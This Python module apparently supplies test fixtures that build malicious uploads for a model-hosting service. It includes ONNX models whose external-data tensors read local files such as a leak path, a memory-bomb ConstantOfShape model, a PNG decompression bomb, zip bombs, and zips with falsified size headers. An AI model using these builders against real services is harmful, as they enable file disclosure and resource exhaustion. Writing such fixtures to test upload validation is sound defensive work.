"""Malicious uploads, built the way an attacker would: ONNX models made with the
``onnx`` package, zip bombs and lying archives made byte by byte."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from typing import Any

import numpy as np

#: ONNX Runtime 1.31 reads IR versions up to 13; onnx 1.23 writes 14 by default
IR_VERSION = 8
OPSET = 17


def _model(nodes: list[Any], inits: list[Any], in_shape: list[Any], **kw: Any) -> bytes:
    import onnx
    from onnx import TensorProto, helper

    graph = helper.make_graph(
        nodes,
        "attack",
        [helper.make_tensor_value_info("input", TensorProto.FLOAT, in_shape)],
        [helper.make_tensor_value_info("output", TensorProto.FLOAT, ["N", 1, "H", "W"])],
        inits,
    )
    opsets = [helper.make_opsetid("", OPSET), *kw.pop("opsets", [])]
    model = helper.make_model(graph, opset_imports=opsets, ir_version=IR_VERSION, **kw)
    return bytes(onnx.ModelProto.SerializeToString(model))


def weight(channels: int) -> Any:
    """A (1, channels, 1, 1) float32 weight of ones, stored inside the model."""
    from onnx import numpy_helper

    return numpy_helper.from_array(np.ones((1, channels, 1, 1), np.float32), "weight")


def external_bytes(location: str, length: int) -> Any:
    """A uint8 tensor of ``length`` values whose data is said to be in the file
    ``location`` (the attack: ONNX Runtime reads it relative to its working dir)."""
    from onnx import TensorProto

    tensor = TensorProto(name="leak", data_type=TensorProto.UINT8, dims=[length])
    tensor.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", "0"), ("length", str(length))):
        entry = tensor.external_data.add()
        entry.key, entry.value = key, value
    return tensor


def conv_model(channels: int = 1, *, dynamic_channels: bool = False) -> bytes:
    """A segmentation model: sigmoid of a 1x1 convolution over ``channels`` planes."""
    from onnx import helper

    nodes = [
        helper.make_node("Conv", ["input", "weight"], ["conv"]),
        helper.make_node("Sigmoid", ["conv"], ["output"]),
    ]
    shape = ["N", "C" if dynamic_channels else channels, "H", "W"]
    return _model(nodes, [weight(channels)], shape)


def external_data_model(location: str, *, where: str, length: int = 16) -> bytes:
    """A model that adds the first ``length`` bytes of the file ``location`` to each
    row of its input (so a prediction on a ``length``-wide image returns them), the
    bytes held by an initializer, by the tensor of a Constant node, or by a Constant
    inside the branch of an If node (a subgraph)."""
    from onnx import TensorProto, helper

    tail = [
        helper.make_node("Cast", ["leak"], ["leaked"], to=TensorProto.FLOAT),
        helper.make_node("Add", ["input", "leaked"], ["output"]),
    ]
    evil = external_bytes(location, length)
    if where == "initializer":
        return _model(tail, [evil], ["N", 1, "H", "W"])
    if where == "constant":
        constant = helper.make_node("Constant", [], ["leak"], value=evil)
        return _model([constant, *tail], [], ["N", 1, "H", "W"])
    branch_out = [helper.make_tensor_value_info("branch", TensorProto.UINT8, [length])]
    then = helper.make_graph(
        [helper.make_node("Constant", [], ["branch"], value=evil)], "then", [], branch_out
    )
    zeros = helper.make_tensor("zeros", TensorProto.UINT8, [length], bytes(length), raw=True)
    other = helper.make_graph(
        [helper.make_node("Constant", [], ["branch"], value=zeros)], "else", [], branch_out
    )
    cond = helper.make_node(
        "Constant", [], ["cond"], value=helper.make_tensor("c", TensorProto.BOOL, [], [True])
    )
    branch = helper.make_node("If", ["cond"], ["leak"], then_branch=then, else_branch=other)
    return _model([cond, branch, *tail], [], ["N", 1, "H", "W"])


def custom_domain_model(domain: str, op: str) -> bytes:
    """A model with one node of operator ``op`` from ``domain`` (not standard ONNX)."""
    from onnx import helper

    nodes = [
        helper.make_node(op, ["input"], ["custom"], domain=domain),
        helper.make_node("Sigmoid", ["custom"], ["output"]),
    ]
    return _model(nodes, [], ["N", 1, "H", "W"], opsets=[helper.make_opsetid(domain, 1)])


def fixed_size_model(side: int) -> bytes:
    """Declares any height/width but reshapes to ``side`` x ``side``: runs on that size
    only, so it registers (the trial input is 64 x 64) and fails on others."""
    from onnx import helper, numpy_helper

    shape = numpy_helper.from_array(np.array([1, 1, side, side], np.int64), "shape")
    nodes = [
        helper.make_node("Reshape", ["input", "shape"], ["fixed"]),
        helper.make_node("Sigmoid", ["fixed"], ["output"]),
    ]
    return _model(nodes, [shape], ["N", 1, "H", "W"])


# -- archives ---------------------------------------------------------------------------
def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_bomb(side: int = 20_000) -> bytes:
    """A real, valid grey PNG of ``side`` x ``side`` zeros: 400 MB of pixels for the
    default side, about 400 KB of file (deflate compresses zeros ~1000:1)."""
    rows_per_chunk = 50
    squeeze = zlib.compressobj(9)
    rows = bytes(side + 1) * rows_per_chunk  # filter byte + one row of zeros, repeated
    idat = [squeeze.compress(rows) for _ in range(side // rows_per_chunk)]
    idat.append(squeeze.compress(bytes(side + 1) * (side % rows_per_chunk)) + squeeze.flush())
    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", b"".join(idat))
        + _png_chunk(b"IEND", b"")
    )


SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="100000" '
    b'height="100000"><rect width="100000" height="100000" fill="red"/></svg>'
)


def zip_of(files: dict[str, bytes]) -> bytes:
    """A deflated zip of ``files``."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buf.getvalue()


def zip_with_big_member(name: str, size: int) -> bytes:
    """A zip with one member of ``size`` zero bytes, written streamed (never in memory)."""
    buf = io.BytesIO()
    block = bytes(1 << 20)
    with (
        zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open(name, "w", force_zip64=True) as member,
    ):
        for _ in range(size >> 20):
            member.write(block)
        member.write(bytes(size & ((1 << 20) - 1)))
    return buf.getvalue()


def lying_zip(name: str, data: bytes, declared: int) -> bytes:
    """A one-member zip whose headers (local and central) declare ``declared`` bytes
    uncompressed while the deflated data holds ``len(data)``."""
    raw = bytearray(zip_of({name: data}))
    assert raw[:4] == b"PK\x03\x04"
    struct.pack_into("<I", raw, 22, declared)  # local header: uncompressed size
    central = raw.index(b"PK\x01\x02")
    struct.pack_into("<I", raw, central + 24, declared)  # central directory entry
    return bytes(raw)


def many_members(count: int) -> bytes:
    """A zip of ``count`` empty files (stored, so it stays small)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as archive:
        for i in range(count):
            archive.writestr(f"images/c{i % 2}/{i}.png", b"")
    return buf.getvalue()


def constant_of_shape_model(side: int) -> bytes:
    """306 bytes that ask for a (1, 1, side, side) float tensor: ConstantOfShape of a
    constant shape, summed and multiplied into the input (a memory bomb)."""
    from onnx import TensorProto, helper

    shape = helper.make_tensor("shape", TensorProto.INT64, [4], [1, 1, side, side])
    one = helper.make_tensor("one", TensorProto.FLOAT, [1], [1.0])
    nodes = [
        helper.make_node("ConstantOfShape", ["shape"], ["big"], value=one),
        helper.make_node("ReduceSum", ["big"], ["sum"], keepdims=1),
        helper.make_node("Mul", ["input", "sum"], ["output"]),
    ]
    return _model(nodes, [shape], ["N", 1, "H", "W"])
